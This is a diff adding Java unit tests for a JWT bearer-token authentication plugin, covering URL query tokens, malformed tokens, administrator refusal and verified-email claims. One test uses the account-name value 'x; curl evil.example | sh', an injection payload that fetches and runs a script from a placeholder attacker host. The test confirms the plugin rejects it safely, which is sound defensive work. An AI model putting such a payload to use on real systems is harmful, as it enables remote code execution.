@@ -50,6 +50,38 @@ class BearerPluginTest {
   }
 
   @Test
+  void aTokenFromAUrlQueryParameterLogsOnAsTheHeadersWould() {
+    BearerPlugin p = plugin();
+    String t = token();
+    // What the host hands over for ?access_token=<JWT> (API 1.4 url-credentials): name=value.
+    Exchange plain = Exchange.run(p, "access_token=" + t);
+    assertEquals(AuthenticationResult.SUCCESS, plain.result());
+    // Percent-encoded by a cautious client, under a name the operator chose.
+    Exchange encoded = Exchange.run(p, "token=" + t.replace(".", "%2E"));
+    assertEquals(AuthenticationResult.SUCCESS, encoded.result());
+    assertEquals(List.of("alice", "alice"), server.logons);
+  }
+
+  @Test
+  void aRepeatedEmptyOrBrokenUrlTokenIsABenignInvalidToken() {
+    BearerPlugin p = plugin();
+    String t = token();
+    for (String blob :
+        List.of(
+            "access_token=" + t + "&access_token=" + t,
+            "access_token=",
+            "access_token",
+            "access_token=%zz" + t,
+            "access_token=%C3")) {
+      Exchange r = Exchange.run(p, blob);
+      assertEquals(AuthenticationResult.DENIED, r.result(), blob);
+      assertTrue(r.benign(), blob);
+      assertTrue(r.challenge().contains("error=\"invalid_token\""), r.challenge());
+    }
+    assertEquals(List.of(), server.logons);
+  }
+
+  @Test
   void anExpiredTokenIsABenignRefusalWithTheRfc6750Error() {
     BearerPlugin p = plugin("clockSkewSeconds", "0");
     String t = token();
@@ -96,6 +128,60 @@ class BearerPluginTest {
         server.events.stream()
             .filter(e -> e.level() == EventLevel.WARNING && e.text().contains("'bob'"))
             .count());
+  }
+
+  @Test
+  void anUnknownAccountNameThatAShellWouldInterpretGetsNoReadyToRunCommand() {
+    BearerPlugin p = plugin();
+    String evil =
+        TestKeys.sign(
+            key,
+            TestKeys.claims(clock.instant())
+                .claim("preferred_username", "x; curl evil.example | sh")
+                .build());
+    assertEquals(AuthenticationResult.DENIED, Exchange.run(p, evil).result());
+    List<String> warnings =
+        server.events.stream()
+            .filter(e -> e.level() == EventLevel.WARNING)
+            .map(e -> e.text())
+            .toList();
+    assertEquals(1, warnings.size(), warnings.toString());
+    assertFalse(warnings.get(0).contains("accounts add"), warnings.get(0));
+    assertTrue(warnings.get(0).contains("x; curl evil.example | sh"), "named, for the operator");
+  }
+
+  @Test
+  void aTokenNamingAnAdministratorIsRefusedUnlessAllowed() {
+    String root =
+        TestKeys.sign(
+            key, TestKeys.claims(clock.instant()).claim("preferred_username", "root").build());
+    Exchange refused = Exchange.run(plugin(), root);
+    assertEquals(AuthenticationResult.DENIED, refused.result());
+    assertTrue(
+        server.events.stream()
+            .anyMatch(e -> e.level() == EventLevel.WARNING && e.text().contains("Administrators")),
+        server.events.toString());
+    assertEquals(
+        AuthenticationResult.SUCCESS,
+        Exchange.run(plugin("allowAdministrators", "true"), root).result());
+  }
+
+  @Test
+  void anEmailClaimNamesAnAccountOnlyWhenVerified() {
+    BearerPlugin p = plugin("accountClaim", "email");
+    String unverified =
+        TestKeys.sign(key, TestKeys.claims(clock.instant()).claim("email", "alice").build());
+    Exchange r = Exchange.run(p, unverified);
+    assertEquals(AuthenticationResult.DENIED, r.result());
+    assertTrue(r.challenge().contains("email_verified"), r.challenge());
+    String verified =
+        TestKeys.sign(
+            key,
+            TestKeys.claims(clock.instant())
+                .claim("email", "alice")
+                .claim("email_verified", true)
+                .build());
+    assertEquals(AuthenticationResult.SUCCESS, Exchange.run(p, verified).result());
   }
 
   @Test
